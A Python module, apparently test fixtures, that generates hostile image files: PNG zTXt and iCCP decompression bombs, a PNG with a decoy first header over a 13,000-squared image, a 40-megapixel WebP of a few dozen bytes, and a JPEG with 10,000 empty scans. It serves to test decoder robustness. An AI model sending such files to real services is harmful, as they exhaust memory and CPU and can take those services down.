"""Generators of hostile pictures: small files that cost a decoder much memory or time."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO

from PIL import Image

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(name: bytes, body: bytes = b"") -> bytes:
    """Return one PNG chunk with its checksum."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_header(width: int, height: int, *, depth: int = 8, colour: int = 2, interlaced: bool = False) -> bytes:
    """Return a PNG's chunk IHDR."""
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlaced))


def png(width: int, height: int, *extra: bytes, colour: int = 2) -> bytes:
    """Return a black 8-bit PNG, with the chunks `extra` between its header and its pixels."""
    samples = {0: 1, 2: 3, 3: 1, 6: 4}[colour]
    pixels = zlib.compressobj(9)
    row = bytes(1 + width * samples)
    data = b"".join(pixels.compress(row) for _ in range(height)) + pixels.flush()
    palette = png_chunk(b"PLTE", bytes(3)) if colour == 3 else b""
    chunks = (png_header(width, height, colour=colour), *extra, palette, png_chunk(b"IDAT", data), png_chunk(b"IEND"))
    return PNG_SIGNATURE + b"".join(chunks)


def png_with_text_bombs(count: int = 99, inflated_bytes: int = 31_000_000) -> bytes:
    """Return a PNG of 64 by 64 pixels with zTXt chunks that each inflate to `inflated_bytes`: 3 MB, 3 GB inflated."""
    body = b"Comment\0\0" + zlib.compress(bytes(inflated_bytes), 9)
    return png(64, 64, *(png_chunk(b"zTXt", body) for _ in range(count)))


def png_with_two_headers() -> bytes:
    """Return a PNG whose first header states 16 by 16 pixels and whose second, which decoders obey, 13,000 squared."""
    large = png(13_000, 13_000, colour=6)
    return PNG_SIGNATURE + png_header(16, 16) + large[len(PNG_SIGNATURE) :]


def png_with_profile_bomb(inflated_bytes: int = 200_000_000) -> bytes:
    """Return a PNG whose colour profile inflates to `inflated_bytes`."""
    return png(64, 64, png_chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(inflated_bytes), 9)))


def png_interlaced(width: int, height: int) -> bytes:
    """Return an interlaced PNG, which decoders keep whole in memory; its pixels are missing."""
    return PNG_SIGNATURE + png_header(width, height, interlaced=True) + png_chunk(b"IDAT") + png_chunk(b"IEND")


def webp_of_one_colour(width: int = 7300, height: int = 5475) -> bytes:
    """Return a lossless WebP of 40 megapixels in a few dozen bytes: each code has a single symbol."""
    size = (width - 1) | (height - 1) << 14
    bits = [*_bits(size, 28), 1, *_bits(0, 3), *_bits(0, 3)]  # no transform, no colour cache, no meta codes
    for _ in range(5):
        bits += [1, 0, 0, 0]  # a simple code with one symbol of one bit, 0
    packed = int("".join(map(str, reversed(bits))), 2).to_bytes(len(bits) // 8 + 8, "little")
    body = b"\x2f" + packed
    body += bytes(len(body) % 2)
    return b"RIFF" + struct.pack("<I", 12 + len(body)) + b"WEBPVP8L" + struct.pack("<I", len(body)) + body


def jpeg_with_empty_scans(count: int = 10_000, size: tuple[int, int] = (2400, 2400)) -> bytes:
    """Return a baseline JPEG with `count` scans without data, each of which fills every block of the picture."""
    file = BytesIO()
    Image.new("RGB", size, "teal").save(file, "JPEG", quality=1)
    whole = file.getvalue()
    first = whole.index(b"\xff\xda")
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return whole[:first] + scan * count + b"\xff\xd9"


def _bits(value: int, count: int) -> list[int]:
    return [value >> at & 1 for at in range(count)]
